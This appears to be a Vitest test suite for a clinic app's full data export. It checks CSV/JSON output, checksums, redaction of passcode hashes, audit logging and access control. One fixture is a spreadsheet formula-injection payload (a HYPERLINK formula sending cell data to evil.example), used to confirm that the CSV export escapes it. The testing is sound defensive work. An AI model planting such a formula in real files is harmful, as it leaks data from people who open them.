// "Export all data": every table as RFC 4180 CSV and JSON, scanned orders as files, a manifest
// with counts and checksums; read from one snapshot; checked before it gets its name; recorded
// in the audit trail. Real database files and a real folder on disk.
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportAllData } from '../../electron/core/export';
import { verifyExport } from '../../electron/core/export-verify';
import type { Client } from '../../shared/schemas/client';
import type { Practitioner } from '../../shared/schemas/clinic';
import type { ExportManifest, FullExportResult } from '../../shared/schemas/export';
import { cleanupTestCores, count, expectOk, makeTempDir, openTestCore, type TestCore } from '../helpers/core';

afterEach(cleanupTestCores);

const SETUP = {
  clinic: { name: 'Calm Hands', timeZone: 'America/Los_Angeles' },
  practitioner: { firstName: 'Pat', lastName: 'Kneader', npi: '1234567893' },
  access: { mode: 'none' },
};
const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")';
const PDF = Buffer.from('%PDF-1.4\n%scanned order\n\u0000\u00ff binary tail');

let core: TestCore;
let destination: string;
let client: Client;

beforeEach(async () => {
  core = await openTestCore();
  destination = makeTempDir('palpate-export-');
  expectOk(core.invoke('clinic/setup', SETUP));
  const pat = expectOk<Practitioner[]>(core.invoke('practitioners/list', {}))[0]!;
  client = expectOk<Client>(
    core.invoke('clients/create', { legalFirstName: 'Dana', legalLastName: 'Doe, "DD"', notes: `${EVIL}\nsecond line`, phone: '+1 555 010 2000' }),
  );
  const referral = expectOk<{ id: string }>(
    core.invoke('referrals/create', { clientId: client.id, physicianName: 'Dr. Rivera', diagnoses: ['M54.50'], visitsAuthorized: 12, startDate: '2026-11-01', endDate: '2027-02-01' }),
  ).id;
  expectOk(core.invoke('referrals/attachOrder', { referralId: referral, fileName: 'order: scan/1.pdf', mimeType: 'application/pdf', dataBase64: PDF.toString('base64') }));
  const id = expectOk<{ id: string }>(core.invoke('sessions/start', { clientId: client.id, practitionerId: pat.id, sessionDate: '2026-11-27' })).id;
  expectOk(core.invoke('sessions/sign', { id, signedBy: pat.id, practitionerId: pat.id, sessionDate: '2026-11-27', subjective: '-3 days of pain', painBefore: 6 }));
});

const tableNames = () =>
  (core.sqlite.prepare(`SELECT name, type FROM pragma_table_list WHERE schema = 'main'`).all() as { name: string; type: string }[])
    .filter((t) => t.type === 'table' && !t.name.startsWith('sqlite_'))
    .map((t) => t.name)
    .sort();

/** The export as the hosts run it: through the shell, so the audit entry is written as in the app. */
async function runExport(): Promise<Extract<FullExportResult, { cancelled: false }>> {
  const invoke = core.withShell({ 'export/full': () => exportAllData(core.ctx, destination) });
  return expectOk(await invoke('export/full', {}));
}

const readManifest = (folder: string) => JSON.parse(readFileSync(join(folder, 'manifest.json'), 'utf8')) as ExportManifest;
const parseCsv = (folder: string, table: string) => Papa.parse<string[]>(readFileSync(join(folder, 'csv', `${table}.csv`), 'utf8'), { newline: '\r\n' });

describe('export/full', () => {
  it('writes every table as CSV and JSON, with the same row counts as the database', async () => {
    const counts = Object.fromEntries(tableNames().map((t) => [t, count(core.sqlite, t)]));
    const result = await runExport();

    expect(result.folder.startsWith(destination)).toBe(true);
    expect(result.folder).toMatch(/Palpate export 2026-11-27 07-00-00$/); // 15:00 UTC is 07:00 in Los Angeles
    expect(readdirSync(destination)).toEqual(['Palpate export 2026-11-27 07-00-00']); // no .partial left behind
    const manifest = readManifest(result.folder);
    expect(manifest).toMatchObject({ format: 'palpate-export', app: { name: 'Palpate', version: '0.0.0-test' }, exportedAt: '2026-11-27T15:00:00.000Z', attachments: 1 });
    expect(manifest.tables.map((t) => t.name)).toEqual(Object.keys(counts));
    expect(manifest.tables.map((t) => t.name)).toEqual(expect.arrayContaining(['audit_log', 'clients', 'sessions', 'attachments', 'referrals']));
    expect(manifest.tables.map((t) => t.name)).not.toContain('client_search'); // the search index is rebuilt from clients
    expect(result.totalRows).toBe(Object.values(counts).reduce((a, b) => a + b, 0));
    expect(counts.audit_log).toBeGreaterThan(3);

    for (const table of manifest.tables) {
      expect(table.rows, table.name).toBe(counts[table.name]);
      const csv = parseCsv(result.folder, table.name);
      expect(csv.errors, table.name).toEqual([]);
      expect(csv.data[0], table.name).toEqual(table.columns);
      expect(csv.data.length - 1, table.name).toBe(counts[table.name]);
      const json = JSON.parse(readFileSync(join(result.folder, 'json', `${table.name}.json`), 'utf8')) as Record<string, unknown>[];
      expect(json, table.name).toHaveLength(counts[table.name]!);
    }
    expect(result.message).toMatch(/^Exported \d+ rows from \d+ tables and 1 scanned order to .*Every file was read back/);
  });

  it('lists every file in the manifest with its size and SHA-256', async () => {
    const result = await runExport();
    const manifest = readManifest(result.folder);
    expect(manifest.files.length).toBe(manifest.tables.length * 2 + 1);
    for (const file of manifest.files) {
      const data = readFileSync(join(result.folder, file.path));
      expect(data.length, file.path).toBe(file.bytes);
      expect(createHash('sha256').update(data).digest('hex'), file.path).toBe(file.sha256);
    }
    expect(result.files).toBe(manifest.files.length + 1);
  });

  it('escapes formula-looking cells in CSV (RFC 4180 quoting) and keeps the JSON exact', async () => {
    const result = await runExport();
    const text = readFileSync(join(result.folder, 'csv', 'clients.csv'), 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")\nsecond line"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(text).toContain('"Doe, ""DD"""');
    expect(text.split('\r\n')[0]).toMatch(/^\uFEFFrow_id,id,legal_first_name,legal_last_name/);
    const csv = parseCsv(result.folder, 'clients');
    const notes = csv.data[0]!.indexOf('notes');
    expect(csv.data[1]![notes]).toBe(`'${EVIL}\nsecond line`);
    // A negative-looking session note is escaped too; a number is never a formula and stays a number.
    const sessions = readFileSync(join(result.folder, 'csv', 'sessions.csv'), 'utf8');
    expect(sessions).toContain(`'-3 days of pain`);
    const json = JSON.parse(readFileSync(join(result.folder, 'json', 'clients.json'), 'utf8')) as Record<string, unknown>[];
    expect(json[0]).toMatchObject({ notes: `${EVIL}\nsecond line`, legal_last_name: 'Doe, "DD"', phone: '+1 555 010 2000' });
    const painJson = JSON.parse(readFileSync(join(result.folder, 'json', 'sessions.json'), 'utf8')) as Record<string, unknown>[];
    expect(painJson[0]!.pain_before).toBe(6);
  });

  it('clients.csv imports back into another clinic unchanged (columns matched by name, escapes undone)', async () => {
    const result = await runExport();
    const other = await openTestCore();
    expectOk(other.invoke('clinic/setup', SETUP));
    const csv = readFileSync(join(result.folder, 'csv', 'clients.csv'), 'utf8');
    const preview = expectOk<{ mapping: Record<string, string | null>; errorRows: number }>(other.invoke('clients/importPreview', { csv }));
    expect(preview.errorRows).toBe(0);
    expect(preview.mapping).toMatchObject({ legalFirstName: 'legal_first_name', legalLastName: 'legal_last_name', notes: 'notes', phone: 'phone', dateOfBirth: 'date_of_birth' });
    expectOk(other.invoke('clients/import', { csv, mapping: preview.mapping }));
    const copy = other.sqlite.prepare('SELECT legal_first_name, legal_last_name, notes, phone FROM clients').get();
    expect(copy).toEqual({ legal_first_name: 'Dana', legal_last_name: 'Doe, "DD"', notes: `${EVIL}\nsecond line`, phone: '+1 555 010 2000' });
  });

  it('writes scanned orders as files, named in the CSV and JSON cells', async () => {
    const result = await runExport();
    const [row] = JSON.parse(readFileSync(join(result.folder, 'json', 'attachments.json'), 'utf8')) as { id: string; content: string }[];
    expect(row!.content).toBe(`attachments/${row!.id} order scan 1.pdf`);
    expect(readFileSync(join(result.folder, row!.content)).equals(PDF)).toBe(true);
    const csv = parseCsv(result.folder, 'attachments');
    expect(csv.data[1]![csv.data[0]!.indexOf('content')]).toBe(row!.content);
  });

  it('never exports a passcode hash', async () => {
    expectOk(core.invoke('users/create', { name: 'Fran Desk', role: 'front_desk', passcode: 'secret-1234' }));
    const result = await runExport();
    const manifest = readManifest(result.folder);
    const users = manifest.tables.find((t) => t.name === 'users');
    expect(users?.rows).toBeGreaterThanOrEqual(2);
    const hashColumns = users!.columns.filter((c) => /passcode|recovery/.test(c));
    expect(hashColumns.length).toBeGreaterThan(0);
    expect(manifest.redacted.users).toEqual(hashColumns);
    const stored = core.sqlite.prepare(`SELECT ${hashColumns.join(', ')} FROM users`).all() as Record<string, string | null>[];
    const secrets = stored.flatMap((r) => Object.values(r)).filter((v): v is string => !!v);
    expect(secrets.length).toBeGreaterThan(0);
    for (const path of ['csv/users.csv', 'json/users.json']) {
      const text = readFileSync(join(result.folder, path), 'utf8');
      for (const secret of secrets) expect(text).not.toContain(secret);
    }
  });

  it('records the export in the audit trail (and the trail itself is in the export)', async () => {
    const before = count(core.sqlite, 'audit_log');
    const result = await runExport();
    expect(readManifest(result.folder).tables.find((t) => t.name === 'audit_log')?.rows).toBe(before);
    const last = core.sqlite.prepare(`SELECT action, entity, detail FROM audit_log ORDER BY seq DESC LIMIT 1`).get() as { action: string; entity: string; detail: string };
    expect(last).toMatchObject({ action: 'export', entity: 'database' });
    expect(JSON.parse(last.detail)).toMatchObject({ method: 'export/full', folder: 'Palpate export 2026-11-27 07-00-00', rows: result.totalRows });
    expect(count(core.sqlite, 'audit_log')).toBe(before + 1);
  });

  it('reads one snapshot: a client added while the export runs is not in it', async () => {
    // Enough audit rows that the export pauses (and lets other calls in) inside audit_log, before it reaches clients.
    const csv = ['First,Last', ...Array.from({ length: 2500 }, (_, i) => `P${i},Q${i}`)].join('\r\n');
    expectOk(core.invoke('clients/import', { csv, mapping: { legalFirstName: 'First', legalLastName: 'Last' } }));
    const clientsBefore = count(core.sqlite, 'clients');
    const running = exportAllData(core.ctx, destination);
    await new Promise((resolve) => setImmediate(resolve));
    expectOk(core.invoke('clients/create', { legalFirstName: 'Late', legalLastName: 'Arrival' }));
    expect(count(core.sqlite, 'clients')).toBe(clientsBefore + 1);
    const result = await running;
    expect(readManifest(result.folder).tables.find((t) => t.name === 'clients')?.rows).toBe(clientsBefore);
    expect(parseCsv(result.folder, 'clients').data.length - 1).toBe(clientsBefore);
  });

  it('writes the same files when it reads on the app’s own connection (as it does for an encrypted database)', async () => {
    const separate = await exportAllData(core.ctx, destination);
    const own = await exportAllData(core.ctx, destination, { connection: 'app' });
    const files = (folder: string) => readManifest(folder).files.map((f) => `${f.path} ${f.sha256}`);
    expect(files(own.folder)).toEqual(files(separate.folder));
    expect(own.totalRows).toBe(separate.totalRows);
  });

  it('gives a second export in the same second its own folder', async () => {
    const a = await runExport();
    const b = await runExport();
    expect(b.folder).toBe(`${a.folder} (2)`);
  });

  it('refuses a destination that does not exist, leaving nothing behind', async () => {
    const missing = join(destination, 'unplugged-drive');
    await expect(exportAllData(core.ctx, missing)).rejects.toMatchObject({ code: 'not_found', message: expect.stringMatching(/was not found/) });
    expect(existsSync(missing)).toBe(false);
  });

  it('the check catches a changed, missing or extra-row file', async () => {
    const result = await runExport();
    expect(await verifyExport(result.folder)).toEqual([]);
    const clients = join(result.folder, 'csv', 'clients.csv');
    writeFileSync(clients, `${readFileSync(clients, 'utf8')}\r\nx`);
    const problems = await verifyExport(result.folder);
    expect(problems.join('\n')).toMatch(/csv\/clients\.csv has \d+ bytes/);
    mkdirSync(join(result.folder, 'elsewhere'));
    writeFileSync(join(result.folder, 'json', 'sessions.json'), '[]');
    expect((await verifyExport(result.folder)).join('\n')).toMatch(/json\/sessions\.json/);
  });

  it('is the owner’s: a front-desk sign-in is refused before anything is written', async () => {
    const locked = await openTestCore();
    expectOk(locked.invoke('clinic/setup', { ...SETUP, access: { mode: 'passcode', passcode: 'owner-1234' } }));
    const desk = expectOk<{ user: { id: string } }>(locked.invoke('users/create', { name: 'Fran Desk', role: 'front_desk', passcode: 'desk-1234' }));
    expectOk(locked.invoke('auth/signIn', { userId: desk.user.id, passcode: 'desk-1234' }));
    let ran = false;
    const invoke = locked.withShell({
      'export/full': () => {
        ran = true;
        return exportAllData(locked.ctx, destination);
      },
    });
    expect(await invoke('export/full', {})).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(ran).toBe(false);
    expect(readdirSync(destination)).toEqual([]);
  });

  it('is a shell method: the core alone answers unavailable', () => {
    expect(core.invoke('export/full', {})).toMatchObject({ ok: false, error: { code: 'unavailable' } });
  });
});
